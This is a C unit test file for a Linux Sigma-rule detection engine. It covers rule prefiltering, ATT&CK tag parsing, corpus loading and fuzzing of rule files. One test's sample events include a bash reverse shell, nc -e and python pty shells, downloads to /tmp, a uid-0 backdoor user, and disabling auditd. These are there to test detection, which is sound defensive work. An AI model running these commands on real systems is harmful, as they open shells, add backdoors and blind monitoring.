				if (s == HN_DS_AUDITD && !(det_audit_kinds(ev) & (1u << k)))
					continue;
				det_rec_init(&rec, ev, par, (enum hn_det_source)s, k);
				hit = det_rule_eval(rule, &rec);
			}
			if (hit && f->n < 512)
				f->r[f->n++] = &rule->info;
		}
	}
}

static void test_prefilter_hides_nothing(void **state)
{
	static const char *const argvs[][4] = {
		{ "/usr/bin/chmod", "chmod", "+x", "/tmp/.x" },
		{ "/usr/bin/curl", "curl", "http://1.2.3.4/x.sh", "-o /tmp/x" },
		{ "/usr/bin/wget", "wget", "http://x/y", "-O /dev/shm/z" },
		{ "/usr/bin/python3.11", "python3", "-c", "import pty;pty.spawn('/bin/sh')" },
		{ "/usr/bin/bash", "bash", "-i", ">& /dev/tcp/10.0.0.1/4444 0>&1" },
		{ "/usr/bin/nc.openbsd", "nc", "-e", "/bin/sh 10.0.0.1 4444" },
		{ "/usr/sbin/useradd", "useradd", "-o -u 0", "backdoor" },
		{ "/usr/bin/base64", "base64", "-d", "/tmp/p" },
		{ "/usr/bin/crontab", "crontab", "-r", "" },
		{ "/usr/bin/systemctl", "systemctl", "stop", "auditd" },
		{ "/usr/sbin/iptables", "iptables", "-F", "" },
		{ "/usr/bin/dash", "sh", "-c", "whoami; id; uname -a" },
		{ "/tmp/.hidden/run", "run", "--cpu-priority", "5" },
		{ "/usr/bin/find", "find", "/", "-perm -4000" },
	};
	static const char *const files[] = {
		"/etc/cron.d/evil", "/etc/ld.so.preload", "/root/.ssh/authorized_keys",
		"/etc/sudoers.d/x", "/tmp/x.sh", "/etc/passwd", "/var/log/wtmp",
		"/home/u/.bashrc", "/etc/systemd/system/x.service",
	};
	struct hn_ruleset *rs;
	struct stat sb;
	char path[512];
	unsigned checked = 0, hits = 0;

	(void)state;
	if (stat(corpus(), &sb) < 0)
		skip();
	rs = hn_ruleset_new();
	assert_non_null(rs);
	snprintf(path, sizeof(path), "%s/rules", corpus());
	assert_true(hn_ruleset_load(rs, path, NULL, NULL) > 0);
	for (size_t i = 0; i < sizeof(argvs) / sizeof(argvs[0]) * 2 +
			    sizeof(files) / sizeof(files[0]) * 4; i++) {
		struct hn_event *ev;
		struct hn_det_parent par = { .image = i % 3 ? "/usr/bin/bash" : "/usr/sbin/apache2",
					     .args = "bash\0-c\0x\0", .args_len = 10 };
		struct fired a = { 0 }, b = { 0 };
		if (i < sizeof(argvs) / sizeof(argvs[0]) * 2) {
			const char *const *v = argvs[i / 2];
			const char *argv[4] = { v[1], v[2], v[3], NULL };
			ev = mk_exec(v[0], i % 2 ? v[0] : v[1], "/tmp", argv);
		} else {
			size_t k = i - sizeof(argvs) / sizeof(argvs[0]) * 2;
			static const uint16_t t[] = { HN_EV_FILE_CREATE, HN_EV_FILE_OPEN_WRITE,
						      HN_EV_FILE_DELETE, HN_EV_FILE_RENAME };
			ev = mk(t[k % 4]);
			ev->path = hn_event_puts(ev, files[k / 4]);
			if (ev->type == HN_EV_FILE_RENAME)
				ev->path2 = hn_event_puts(ev, "/etc/shadow");
			ev->proc.executable = hn_event_puts(ev, "/usr/bin/vi");
		}
		hn_ruleset_match(rs, ev, &par, collect_fired, &a);
		brute(rs, ev, &par, &b);
		qsort(a.r, a.n, sizeof(a.r[0]), cmp_ptr);
		qsort(b.r, b.n, sizeof(b.r[0]), cmp_ptr);
		assert_int_equal(a.n, b.n);
		for (unsigned k = 0; k < a.n; k++)
			assert_ptr_equal(a.r[k], b.r[k]);
		hits += a.n;
		checked++;
		hn_event_free(ev);
	}
	/* the events do fire rules: the comparison is not of empty sets */
	assert_true(hits >= 10);
	fprintf(stderr, "prefilter: %u events, %u matches, same as every rule tried\n",
		checked, hits);
	hn_ruleset_free(rs);
}

static void test_attack_tags(void **state)
{
	struct hn_attack at;

	(void)state;
	assert_int_equal(hn_attack_tag("attack.t1059.004", &at), 1);
	assert_string_equal(at.technique, "T1059.004");
	assert_int_equal(hn_attack_tag("attack.T1033", &at), 1);
	assert_string_equal(at.technique, "T1033");
	assert_int_equal(hn_attack_tag("attack.execution", &at), 2);
	assert_string_equal(at.tactic_name, "Execution");
	assert_string_equal(at.tactic_id, "TA0002");
	assert_int_equal(hn_attack_tag("attack.stealth", &at), 2);
	assert_string_equal(at.tactic_name, "Stealth");
	assert_null(at.tactic_id);
	assert_int_equal(hn_attack_tag("attack.defense-impairment", &at), 2);
	assert_string_equal(at.tactic_name, "Defense Impairment");
	assert_int_equal(hn_attack_tag("attack.command-and-control", &at), 2);
	assert_string_equal(at.tactic_id, "TA0011");
	assert_int_equal(hn_attack_tag("attack.g0032", &at), 0);
	assert_int_equal(hn_attack_tag("attack.t10x9", &at), 0);
	assert_int_equal(hn_attack_tag("attack.t1059.004.000.000.000", &at), 0);
	assert_int_equal(hn_attack_tag("cve.2021-4034", &at), 0);
	assert_int_equal(hn_attack_tag(NULL, &at), 0);
}

/* ---- the public corpus ---- */

#define CORPUS_MIN_PCT 95

static const char *corpus(void)
{
	const char *e = getenv("HINOMI_SIGMA_CORPUS");
	return e && *e ? e : "../shared/corpus/sigma-linux";
}

static void print_problem(const struct hn_rule_problem *p, void *arg)
{
	(void)arg;
	fprintf(stderr, "  %s:%d: %s: %s\n", p->path, p->line,
		p->kind == HN_RULE_INVALID ? "invalid" : "unsupported", p->why);
}

static void test_sigmahq_linux_corpus_loads(void **state)
{
	static const char *const dirs[] = { "rules", "rules-emerging-threats",
					    "rules-threat-hunting" };
	struct hn_ruleset *rs;
	struct hn_ruleset_stats st;
	unsigned total;
	char path[512];
	struct stat sb;

	(void)state;
	if (stat(corpus(), &sb) < 0) {
		fprintf(stderr, "no corpus at %s\n", corpus());
		skip();
	}
	rs = hn_ruleset_new();
	assert_non_null(rs);
	for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", corpus(), dirs[i]);
		assert_true(hn_ruleset_load(rs, path, print_problem, NULL) > 0);
	}
	hn_ruleset_stats(rs, &st);
	total = st.loaded + st.unsupported + st.invalid;
	fprintf(stderr, "corpus: %u rules, %u loaded (%.1f%%), %u unsupported, %u invalid\n",
		total, st.loaded, 100.0 * st.loaded / total, st.unsupported, st.invalid);
	assert_true(total >= 240);
	assert_int_equal(st.invalid, 0);
	assert_true(st.loaded * 100 >= total * CORPUS_MIN_PCT);
	hn_ruleset_free(rs);
}

/* Mutated rule files (bytes flipped, cut, duplicated) load or are
 * reported; none crashes (this runs under ASan too). */
static void test_mutated_rules_never_crash(void **state)
{
	static const char *const base =
		HEAD "id: 5\ntags:\n  - attack.t1059\nauthor: A\nlevel: high\n"
		"detection:\n  sel:\n    Image|endswith:\n      - /sh\n      - /bash\n"
		"    CommandLine|contains|all: [' -c ', 'curl']\n"
		"  sel2:\n    - CommandLine|re: '^a.*b$'\n    - CurrentDirectory|startswith: /tmp\n"
		"  kw:\n    - 'x*y'\n  filter:\n    User: root\n"
		"  condition: (sel or 1 of sel*) and not filter or all of kw\n";
	static const char junk[] = "|:-[]{}*?\\'\"#&!%@ \n\t0a";
	size_t n = strlen(base);
	unsigned seed = 12345;
	char *buf = malloc(n * 2 + 8);
	int loaded = 0, reported = 0;

	(void)state;
	assert_non_null(buf);
	for (int round = 0; round < 400; round++) {
		struct problems ps;
		size_t len = n;
		memcpy(buf, base, n);
		for (int k = 0; k < 1 + round % 4; k++) {
			seed = seed * 1103515245u + 12345u;
			size_t at = (seed >> 8) % len;
			switch ((seed >> 4) % 3) {
			case 0:
				buf[at] = junk[(seed >> 16) % (sizeof(junk) - 1)];
				break;
			case 1:
				len = at;   /* cut */
				break;
			default:
				if (len + 8 < n * 2) {   /* duplicate a few bytes */
					memmove(buf + at + 4, buf + at, len - at);
					len += 4;
				}
				break;
			}
		}
		buf[len] = '\0';
		struct hn_ruleset *rs = load_text(buf, &ps);
		loaded += (int)hn_ruleset_count(rs);
		reported += ps.n;
		/* whatever loaded can be matched */
		struct hn_event *ev = mk(HN_EV_PROCESS_START);
		ev->path = hn_event_puts(ev, "/bin/sh");
		ev->args = hn_event_put(ev, "sh\0-c\0curl x", 13);
		ev->args_len = 13;
		hn_ruleset_match(rs, ev, NULL, NULL, NULL);
		hn_event_free(ev);
		hn_ruleset_free(rs);
	}
	free(buf);
	/* both outcomes happened */
	assert_true(loaded > 0);
	assert_true(reported > 0);
	assert_int_equal(loaded + reported >= 400, 1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_condition_precedence_and_quantifiers),
		cmocka_unit_test(test_condition_errors),
		cmocka_unit_test(test_condition_nesting_bounded),
		cmocka_unit_test_setup_teardown(test_rule_problems_have_lines, th_tmp_setup,
						th_tmp_teardown),
		cmocka_unit_test_setup_teardown(test_load_directory_and_documents, th_tmp_setup,
						th_tmp_teardown),
		cmocka_unit_test_setup_teardown(test_literals_count_in_their_fields, th_tmp_setup,
						th_tmp_teardown),
		cmocka_unit_test_setup_teardown(test_process_creation_fields, th_tmp_setup,
						th_tmp_teardown),
		cmocka_unit_test_setup_teardown(test_file_and_network_fields, th_tmp_setup,
						th_tmp_teardown),
		cmocka_unit_test_setup_teardown(test_fieldref, th_tmp_setup, th_tmp_teardown),
		cmocka_unit_test_setup_teardown(test_auditd_view, th_tmp_setup, th_tmp_teardown),
		cmocka_unit_test_setup_teardown(test_log_sources, th_tmp_setup, th_tmp_teardown),
		cmocka_unit_test_setup_teardown(test_mutated_rules_never_crash, th_tmp_setup,
						th_tmp_teardown),
		cmocka_unit_test(test_attack_tags),
		cmocka_unit_test_setup_teardown(test_tuning_allowlist, th_tmp_setup, th_tmp_teardown),
		cmocka_unit_test(test_prefilter_hides_nothing),
		cmocka_unit_test(test_sigmahq_linux_corpus_loads),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
